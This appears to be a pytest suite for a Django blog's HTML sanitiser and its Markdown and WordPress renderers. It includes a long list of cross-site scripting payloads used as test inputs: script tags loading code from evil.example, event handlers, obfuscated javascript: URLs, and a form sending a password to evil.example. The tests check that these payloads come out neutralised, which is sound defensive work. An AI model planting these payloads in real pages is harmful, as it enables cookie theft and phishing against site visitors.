import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from blog.markup import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    URL_SCHEMES,
    autop,
    excerpt_from_html,
    plain_text,
    render_markdown,
    render_wordpress_html,
    sanitize_html,
    web_url,
)
from blog.models import Post
from tests.factories import PostFactory

# Bodies an attacker (or a careless import) could put in a post. Each must come out
# of both renderers with nothing executable, framed, styled or submitted left.
HOSTILE_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="https://ok.example/" style="position:fixed;inset:0">cover</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="password">'
    "<button>Go</button></form>",
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div><p><b>unclosed <i>nested <a href="javascript:alert(1)">x',
    "<p>broken <em>markup</p></em><script>alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p>text<!-- --><script>alert(1)</script></p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    '<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>',
    '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
    "[click](javascript:alert(1))",
    '[click](JAVASCRIPT:alert(1) "title")',
    "![image](javascript:alert(1))",
    "[ref link][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[caption]<script>alert(1)</script>[/caption]",
    '[caption caption="<img src=x onerror=alert(1)>"]'
    '<img src="https://ok.example/a.png">[/caption]',
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
]

RENDERERS = {"markdown": render_markdown, "wordpress": render_wordpress_html}

_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_URL_ATTRIBUTES = {"href", "src", "cite"}


class _AllowListChecker(HTMLParser):
    """Collects every tag and attribute the sanitiser let through that it should not."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(tag, set())
        if tag == "a":
            allowed = allowed | {"rel"}
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in _URL_ATTRIBUTES:
                # As a browser reads a URL: tabs and newlines vanish anywhere,
                # controls and spaces at either end.
                squeezed = re.sub(r"[\t\n\r]", "", value or "")
                squeezed = squeezed.strip("".join(map(chr, range(33)))).lower()
                scheme = _SCHEME.match(squeezed)
                if scheme and scheme.group(1) not in URL_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def allow_list_problems(html: str) -> list[str]:
    checker = _AllowListChecker()
    checker.feed(html)
    checker.close()
    lowered = html.lower()
    # Escaped text is fine ("&lt;script"); a raw tag opener is not.
    for needle in ("<script", "<style", "<iframe"):
        if needle in lowered:
            checker.problems.append(f"raw {needle}")
    return checker.problems


def _ids(bodies):
    return [f"{i:02d}" for i, _ in enumerate(bodies)]


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize("body", HOSTILE_BODIES, ids=_ids(HOSTILE_BODIES))
def test_hostile_body_renders_to_allow_listed_html(body, renderer):
    html = RENDERERS[renderer](body)

    assert allow_list_problems(html) == []


@pytest.mark.django_db
@pytest.mark.parametrize("body_format", Post.BodyFormat.values)
@pytest.mark.parametrize("body", HOSTILE_BODIES, ids=_ids(HOSTILE_BODIES))
def test_saving_a_hostile_post_stores_only_allow_listed_html(author, body, body_format):
    post = PostFactory(author=author, body=body, body_format=body_format)
    post.refresh_from_db()

    assert allow_list_problems(post.body_html) == []


@pytest.mark.parametrize("renderer", RENDERERS)
def test_script_and_style_contents_are_dropped_not_shown(renderer):
    html = RENDERERS[renderer](
        "Before <script>steal(document.cookie)</script>"
        "<style>.x { color: red }</style> after"
    )

    assert "steal" not in html
    assert "color" not in html
    assert "Before" in html and "after" in html


def test_the_checker_itself_catches_what_it_should():
    assert allow_list_problems('<a href="javascript:x()" onclick="y()">z</a>') == [
        "href='javascript:x()' on <a>",
        "attribute onclick on <a>",
    ]
    assert allow_list_problems('<a href=" java\tscript:x()">z</a>') != []
    assert allow_list_problems("<iframe></iframe>") == ["tag <iframe>", "raw <iframe"]


@pytest.mark.parametrize("body", HOSTILE_BODIES, ids=_ids(HOSTILE_BODIES))
def test_sanitising_twice_changes_nothing(body):
    once = sanitize_html(body)

    assert sanitize_html(once) == once


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize("body", HOSTILE_BODIES, ids=_ids(HOSTILE_BODIES))
def test_rendered_output_is_already_clean(body, renderer):
    html = RENDERERS[renderer](body)

    assert sanitize_html(html) == html


# --- What the sanitiser keeps --------------------------------------------------

RICH_MARKDOWN = """\
## A heading

### A smaller heading

A paragraph with **bold**, *emphasis* and a [link](https://example.com/page).

- first item
- second item

1. one
2. two

![A photo](https://example.com/photo.jpg "Photo")

> A quotation
> on two lines.

Some `inline code` here.

    def indented():
        return "code block"

| Name | Value |
| ---- | ----- |
| a    | 1     |
"""


def _tags(html: str) -> set[str]:
    return set(re.findall(r"<([a-z][a-z0-9]*)", html))


def test_markdown_keeps_headings_lists_links_images_quotes_code_and_tables():
    html = render_markdown(RICH_MARKDOWN)

    assert {
        "h2",
        "h3",
        "ul",
        "ol",
        "li",
        "a",
        "img",
        "blockquote",
        "code",
        "pre",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "strong",
        "em",
    } <= _tags(html)
    assert '<img alt="A photo" src="https://example.com/photo.jpg"' in html
    assert allow_list_problems(html) == []


def test_links_keep_their_address_and_get_noopener():
    html = render_markdown("[link](https://example.com/page)")

    assert html == (
        '<p><a href="https://example.com/page" rel="noopener noreferrer">link</a></p>'
    )


@pytest.mark.parametrize(
    "href",
    ["https://example.com/", "http://example.com/", "mailto:me@example.com", "/local/"],
)
def test_safe_link_addresses_survive(href):
    html = sanitize_html(f'<a href="{href}">x</a>')

    assert f'href="{href}"' in html


def test_html_tables_code_and_quotes_are_kept_from_wordpress_bodies():
    html = render_wordpress_html(
        '<blockquote cite="https://example.com/">Quoted</blockquote>\n\n'
        '<pre><code class="language-python">x = 1</code></pre>\n\n'
        "<table><thead><tr><th>a</th></tr></thead>"
        "<tbody><tr><td>1</td></tr></tbody></table>"
    )

    assert '<blockquote cite="https://example.com/">Quoted</blockquote>' in html
    assert '<pre><code class="language-python">x = 1</code></pre>' in html
    assert "<th>a</th>" in html and "<td>1</td>" in html


# --- WordPress bodies ----------------------------------------------------------


def test_blank_lines_make_paragraphs_and_single_newlines_breaks():
    html = render_wordpress_html("First line\nsecond line\n\nNext paragraph")

    assert html == "<p>First line<br>\nsecond line</p>\n<p>Next paragraph</p>"


def test_windows_newlines_count_as_newlines():
    assert render_wordpress_html("One\r\n\r\nTwo") == "<p>One</p>\n<p>Two</p>"


def test_block_editor_comments_vanish():
    html = render_wordpress_html(
        "<!-- wp:paragraph -->\n<p>Hello</p>\n<!-- /wp:paragraph -->\n\n"
        '<!-- wp:heading {"level":3} -->\n<h3>Title</h3>\n<!-- /wp:heading -->'
    )

    assert html == "<p>Hello</p>\n<h3>Title</h3>"


def test_existing_paragraph_tags_are_not_wrapped_again():
    assert render_wordpress_html("<p>Already</p>") == "<p>Already</p>"


def test_text_after_a_heading_becomes_a_paragraph():
    html = render_wordpress_html("<h2>Title</h2>\nSome text")

    assert html == "<h2>Title</h2>\n<p>Some text</p>"


def test_preformatted_text_keeps_its_blank_lines_and_newlines():
    html = render_wordpress_html("<pre>line 1\n\nline 3\nline 4</pre>")

    assert html == "<pre>line 1\n\nline 3\nline 4</pre>"


def test_a_line_ending_in_br_gets_no_second_break():
    html = render_wordpress_html("one<br />\ntwo")

    assert html == "<p>one<br>\ntwo</p>"


def test_caption_shortcode_becomes_a_figure():
    html = render_wordpress_html(
        '[caption id="attachment_7" align="aligncenter" width="300"]'
        '<a href="https://example.com/big.jpg"><img src="https://example.com/a.jpg"'
        ' alt="A" width="300" height="200"></a> The <em>harbour</em> at dawn'
        "[/caption]"
    )

    assert html.startswith("<figure><a href=")
    assert '<img src="https://example.com/a.jpg" alt="A"' in html
    assert "<figcaption>The <em>harbour</em> at dawn</figcaption>" in html
    assert html.endswith("</figure>")
    assert "[caption" not in html


def test_caption_text_may_come_from_the_attribute():
    html = render_wordpress_html(
        '[caption id="attachment_7" caption="Old style"]'
        '<img src="https://example.com/a.jpg">[/caption]'
    )

    assert "<figcaption>Old style</figcaption>" in html


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('Look: [gallery ids="1,2,3"]', "<p>Look:</p>"),
        ("Look: [gallery]", "<p>Look:</p>"),
        ("[youtube https://www.youtube.com/watch?v=x]Text", "<p>Text</p>"),
        ('Before [unknown_thing foo="bar" /] after', "<p>Before  after</p>"),
        ("[highlight]kept words[/highlight]", "<p>kept words</p>"),
        (
            '[contact-form][contact-field label="Name"][/contact-form]Done',
            "<p>Done</p>",
        ),
    ],
)
def test_unknown_shortcodes_are_removed(source, expected):
    assert render_wordpress_html(source) == expected


@pytest.mark.parametrize(
    "text", ["He said [sic] so.", "A claim [citation needed].", "Array a[i] = 1"]
)
def test_bracketed_words_that_are_not_shortcodes_stay(text):
    assert render_wordpress_html(text) == f"<p>{text}</p>"


def test_doubled_brackets_write_a_shortcode_as_text():
    assert render_wordpress_html("Use [[gallery]] here") == "<p>Use [gallery] here</p>"


def test_shortcodes_inside_preformatted_text_are_left_alone():
    html = render_wordpress_html('<pre>[gallery ids="1"]</pre>')

    assert html == '<pre>[gallery ids="1"]</pre>'


def test_autop_leaves_lists_alone():
    assert autop("<ul>\n<li>a</li>\n<li>b</li>\n</ul>") == (
        "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"
    )


class _Shape(HTMLParser):
    """A renderer-neutral outline of HTML: tags, attributes and collapsed text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.items = []

    def handle_starttag(self, tag, attrs):
        self.items.append(("start", tag, tuple(sorted(attrs))))

    def handle_endtag(self, tag):
        self.items.append(("end", tag))

    def handle_data(self, data):
        text = " ".join(data.split())
        if text:
            self.items.append(("text", text))


def shape(html: str) -> list:
    parser = _Shape()
    parser.feed(html)
    parser.close()
    return parser.items


@pytest.mark.parametrize(
    ("markdown_body", "wordpress_body"),
    [
        ("One paragraph.\n\nAnother one.", "One paragraph.\n\nAnother one."),
        (
            "Read [the story](https://example.com/story) today.",
            'Read <a href="https://example.com/story">the story</a> today.',
        ),
        (
            "Intro:\n\n- first\n- second\n\nOutro.",
            "Intro:\n\n<ul>\n<li>first</li>\n<li>second</li>\n</ul>\n\nOutro.",
        ),
        (
            "1. [One](https://example.com/1)\n2. [Two](https://example.com/2)",
            '<ol>\n<li><a href="https://example.com/1">One</a></li>\n'
            '<li><a href="https://example.com/2">Two</a></li>\n</ol>',
        ),
        (
            "## Heading\n\nText with **bold** and *emphasis*.",
            "<h2>Heading</h2>\nText with <strong>bold</strong> and <em>emphasis</em>.",
        ),
        (
            "![Alt](https://example.com/a.jpg)",
            '<img alt="Alt" src="https://example.com/a.jpg">',
        ),
    ],
)
def test_wordpress_html_renders_like_the_same_markdown(markdown_body, wordpress_body):
    assert shape(render_wordpress_html(wordpress_body)) == shape(
        render_markdown(markdown_body)
    )


# --- Plain text and excerpts ---------------------------------------------------


def test_plain_text_keeps_words_apart_across_blocks_and_breaks():
    assert plain_text("<ul><li>one</li><li>two</li></ul><p>three</p>four<br>five") == (
        "one two three four five"
    )


def test_plain_text_unescapes_entities():
    assert plain_text("<p>Fish &amp; chips &lt;3</p>") == "Fish & chips <3"


def test_excerpt_is_55_words_and_an_ellipsis():
    words = [f"w{i}" for i in range(80)]
    excerpt = excerpt_from_html("<p>" + " ".join(words) + "</p>")

    assert excerpt == " ".join(words[:55]) + "\u2026"


def test_a_short_text_is_its_own_excerpt():
    assert excerpt_from_html("<p>Just a few words.</p>") == "Just a few words."


@pytest.mark.django_db
@pytest.mark.parametrize("body_format", Post.BodyFormat.values)
def test_post_summary_is_derived_from_the_body_without_html(author, body_format):
    body = (
        "<h2>Heading</h2>\n\n"
        + " ".join(
            f"<b>bold{i}</b> <a href='https://e.example/'>l{i}</a>" for i in range(40)
        )
        + "\n\n<script>alert(1)</script>"
    )
    post = PostFactory(author=author, body=body, body_format=body_format, excerpt="")

    assert "<" not in post.summary and ">" not in post.summary
    assert post.summary.startswith("Heading bold0 l0 bold1 l1")
    assert post.summary.endswith("\u2026")
    assert len(post.summary.split()) == 55


@pytest.mark.django_db
def test_a_written_excerpt_wins_over_the_body(author):
    post = PostFactory(author=author, body="Long body " * 50, excerpt=" Short. ")

    assert post.summary == "Short."


@pytest.mark.django_db
def test_body_is_rendered_again_on_every_save(author):
    post = PostFactory(author=author, body="*old*")
    post.body = "**new**"
    post.save()

    assert post.body_html == "<p><strong>new</strong></p>"
    assert post.body_text == "new"


# --- Links to readers' websites ------------------------------------------------


@given(
    start=st.sampled_from(
        ["http://", "HTTPS://", "https:", "javascript:", " http://", "ht\ttp://", ""]
    ),
    rest=st.text(max_size=30),
)
def test_only_http_and_https_addresses_become_links(start, rest):
    value = start + rest

    kept = web_url(value)

    # Browsers drop tabs and newlines inside a scheme: "ht\ttp:" is "http:".
    scheme = re.sub(r"[\t\n\r]", "", kept).split(":", 1)[0].lower()
    assert kept == "" or scheme in ("http", "https")
    if start.strip().lower() in ("http://", "https://"):
        assert kept == value.strip()
